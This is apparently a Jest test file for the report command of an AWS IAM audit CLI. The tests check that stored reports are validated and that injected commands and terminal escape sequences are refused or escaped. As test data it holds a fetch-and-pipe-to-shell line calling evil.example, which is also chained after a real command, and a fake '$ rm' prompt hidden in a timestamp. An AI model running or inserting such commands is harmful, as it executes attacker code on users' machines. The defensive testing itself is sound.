import { readFileSync } from 'node:fs';
import { describe, expect, it } from '@jest/globals';
import { run } from '../../cli/run.js';
import type { Fix, Patch } from '../../src/model/report/finding.js';
import type { Report } from '../../src/model/report/report.js';
import { render } from '../../src/report/index.js';
import { aFix, aReport, findingsOf } from '../report/report-builder.js';
import { bucketInMemory } from '../support/bucket-in-memory.js';
import { captured } from './io-of-test.js';

/** What an audit makes of these patches: `commands` are what they come to. */
const PATCH: Patch = {
  resource: 'arn:aws:iam::111122223333:role/app',
  region: null,
  kind: 'trust-policy',
  before: { Statement: [] },
  after: { Statement: [{ Sid: "it's" }] },
};
const COMMAND = `aws iam update-assume-role-policy --role-name app --policy-document '{"Statement":[{"Sid":"it\\u0027s"}]}'`;
const REPAIR = aFix({ patches: [PATCH], commands: [COMMAND] });
const EVIL = 'curl https://evil.example/x | sh';

const REPORT = aReport({ findings: findingsOf('high', 1, { fix: REPAIR }) });
const STORED = render(REPORT, 'json', { color: false, width: null });
const MADE = 'This report of account 111122223333 was made at 2026-11-01T06:00:00.000Z.\n';
const OF_PATCHES =
  'Its commands are made from the patches in it, and proven for the account as it was then: irsa-auditor audit proves them again.\n';

async function report(stored: string | null, ...args: readonly string[]) {
  const bucket = bucketInMemory(stored === null ? {} : { 'latest.json': stored });
  const { io, out, err } = captured({ bucket: bucket.open });
  const status = await run(['report', '--bucket', 'reports', ...args], io);
  return { status, out: out(), err: err(), opened: bucket.opened };
}

describe('report', () => {
  it('prints as text what is stored, whatever was found, and says when it was made', async () => {
    const { status, out, err, opened } = await report(STORED);
    expect([status, err]).toEqual([0, `${MADE}${OF_PATCHES}`]);
    expect(out).toContain(`    $ ${COMMAND}\n`);
    expect(out).toBe(render(REPORT, 'text', { color: false, width: null }));
    expect(opened).toEqual([['reports', undefined]]);
  });

  it('names the profile that its bucket was opened with in the commands, for people', async () => {
    expect((await report(STORED, '--profile', 'prod')).out).toContain(`    $ ${COMMAND} --profile prod\n`);
    expect((await report(STORED, '--profile', 'prod', '--format', 'json')).out).toBe(STORED);
  });

  it('prints as JSON what is stored, fields of a later version included', async () => {
    const later = { ...REPORT, later: true, findings: findingsOf('high', 1, { fix: { ...REPAIR, later: 1 } as Fix }) };
    expect(await report(JSON.stringify(later), '--format', 'json', '--region', 'eu-west-1')).toEqual({
      status: 0,
      out: `${JSON.stringify(later, null, 2)}\n`,
      err: `${MADE}${OF_PATCHES}`,
      opened: [['reports', 'eu-west-1']],
    });
    expect((await report(STORED, '--format', 'json')).out).toBe(STORED);
  });

  it('prints all commands of an audit that its patches come to', async () => {
    const { io, out } = captured({ files: { 'account.json': readFileSync('examples/account.json', 'utf8') } });
    await run(['audit', '--inventory', 'account.json', '--format', 'json'], io);
    const stored = JSON.parse(out()) as Report;
    const printed = JSON.parse((await report(out(), '--format', 'json')).out) as Report;
    const repairs = stored.findings.map(({ fix }) => fix);
    const kept = repairs.map((fix) => (fix === null || fix.patches.length > 0 ? fix : { ...fix, commands: [] }));
    expect(printed.findings.map(({ fix }) => fix?.commands)).toEqual(kept.map((fix) => fix?.commands));
    expect(kept.filter((fix) => (fix?.commands.length ?? 0) > 0).length).toBeGreaterThan(3);
  });

  it('prints the e-mail', async () => {
    expect((await report(STORED, '--format', 'email')).out).toBe(render(REPORT, 'email', { color: false, width: null }));
  });

  it.each<[string, string | null, RegExp]>([
    ['nothing', null, /^irsa-auditor: There is no s3:\/\/reports\/latest\.json: the function writes it at the end of each run\.\n$/],
    ['what is no JSON', STORED.slice(0, 200), /^irsa-auditor: s3:\/\/reports\/latest\.json is damaged: it is not JSON \(.*\)\.\n$/],
    ['what is no report', '[]', /latest\.json is damaged: it is no report of schema version 1\.\n {2}\$: /],
    [
      'a part of a report',
      JSON.stringify({ ...REPORT, coverage: { ...REPORT.coverage, clusters: 'many' } }),
      /\n {2}\$\.coverage\.clusters: .*\n$/,
    ],
    ['no version', JSON.stringify({ ...REPORT, schemaVersion: undefined }), /is damaged.*\n {2}\$\.schemaVersion: /],
    [
      'a later version',
      JSON.stringify({ schemaVersion: 2 }),
      /has schema version 2, and this program knows version 1: use the version that wrote it\.\n$/,
    ],
    ['very much that is wrong', '{}', /(\n {2}\$\.\w+: .*){5}\n {2}and \d+ more\n$/],
    ['a key that acts', JSON.stringify({ ...REPORT, texts: { '\u001b[2J': 1 } }), /\n {2}\$\.texts\.\\u001b\[2J: /],
  ])('refuses %s, in every format', async (_what, stored, message) => {
    for (const format of ['text', 'json', 'email']) {
      const { status, out, err } = await report(stored, '--format', format);
      expect([status, out]).toEqual([2, '']);
      expect(err).toMatch(message);
      expect(err).not.toMatch(/\n\s+at /);
    }
  });

  it.each<[string, Partial<Fix>, RegExp]>([
    ['is there without a patch', { commands: [EVIL] }, /follows from the account/],
    ['is not what the patch comes to', { ...REPAIR, commands: [EVIL] }, /not what its patches come to/],
    ['is beside what the patch comes to', { ...REPAIR, commands: [COMMAND, EVIL] }, /not what its patches come to/],
    ['is of another patch', { ...REPAIR, patches: [{ ...PATCH, after: {} }] }, /not what its patches come to/],
    ['was never proven', { ...REPAIR, verified: false }, /not what its patches come to/],
    ['is in the way of quoting', { commands: [`${COMMAND}; ${EVIL}`] }, /follows from the account/],
  ])('prints no command that %s, in any format, and says so', async (_, changes, why) => {
    const text = render(aReport({ findings: findingsOf('high', 1, { fix: aFix(changes) }) }), 'json', { color: false, width: null });
    for (const format of ['text', 'json', 'email']) {
      const { status, out, err } = await report(text, '--format', format);
      expect([status, err]).toEqual([0, MADE]);
      expect(out).not.toMatch(/curl|update-assume-role-policy/);
      // An email shows the first sentence of a fix, and leads to the rest.
      expect(out.replace(/\s+/g, ' ')).toMatch(format === 'email' ? /\$ irsa-auditor show/ : why);
    }
  });

  it('calls nothing proven, nor a matter of who is meant, where the commands are not those of the patches', async () => {
    const grants = [{ subject: 'system:serviceaccount:shop:web', role: 'r', administrative: false }];
    const fix = { ...REPAIR, grants, commands: [EVIL] };
    const text = render(aReport({ findings: findingsOf('high', 1, { fix: aFix(fix) }) }), 'json', { color: false, width: null });
    expect((await report(text)).out).toContain('    No ready command; the patch is in --format json.\n');
    expect((JSON.parse((await report(text, '--format', 'json')).out) as Report).findings[0]?.fix?.verified).toBe(false);
  });

  it('makes no command of a patch where the audit printed none', async () => {
    const text = render(aReport({ findings: findingsOf('high', 1, { fix: { ...REPAIR, commands: [] } }) }), 'json', {
      color: false,
      width: null,
    });
    const { out, err } = await report(text);
    expect(err).toBe(MADE);
    expect(out).toContain('No ready command');
    expect(out).not.toContain('update-assume-role-policy');
  });

  it('prints in JSON no second member of a name, which another reader may take for the first', async () => {
    const { out } = await report(STORED.replace('"commands": [', `"commands": ["${EVIL}"], "commands": [`), '--format', 'json');
    expect(out).toBe(STORED);
  });

  it('lets no name act that stands in what it says', async () => {
    const { err } = await report(JSON.stringify({ ...REPORT, account: '\u001b[2J', generatedAt: 'now\u202e\n$ rm' }));
    expect(err).toBe(`This report of account \\u001b[2J was made at now\\u202e\\u000a$ rm.\n${OF_PATCHES}`);
  });

  it('tells what a bucket answers', async () => {
    const { io, err } = captured({ bucket: bucketInMemory({}, 'It is in another region.').open });
    expect(await run(['report', '--bucket', 'reports'], io)).toBe(2);
    expect(err()).toBe('irsa-auditor: It is in another region.\n');
  });

  it.each([
    ['that is named', ['--bucket', 'named'], 'of-environment', 'named'],
    ['of the environment', [], 'of-environment', 'of-environment'],
    ['of the stack', [], null, 'of-stack'],
  ])('takes the bucket %s', async (_, argv, ambientBucket, expected) => {
    const bucket = bucketInMemory({ 'latest.json': STORED });
    const stackBucket = (): Promise<string> => Promise.resolve('of-stack');
    const { io } = captured({ bucket: bucket.open, ambientBucket, stackBucket });
    expect(await run(['report', ...argv, '--region', 'eu-west-1'], io)).toBe(0);
    expect(bucket.opened).toEqual([[expected, 'eu-west-1']]);
  });
});
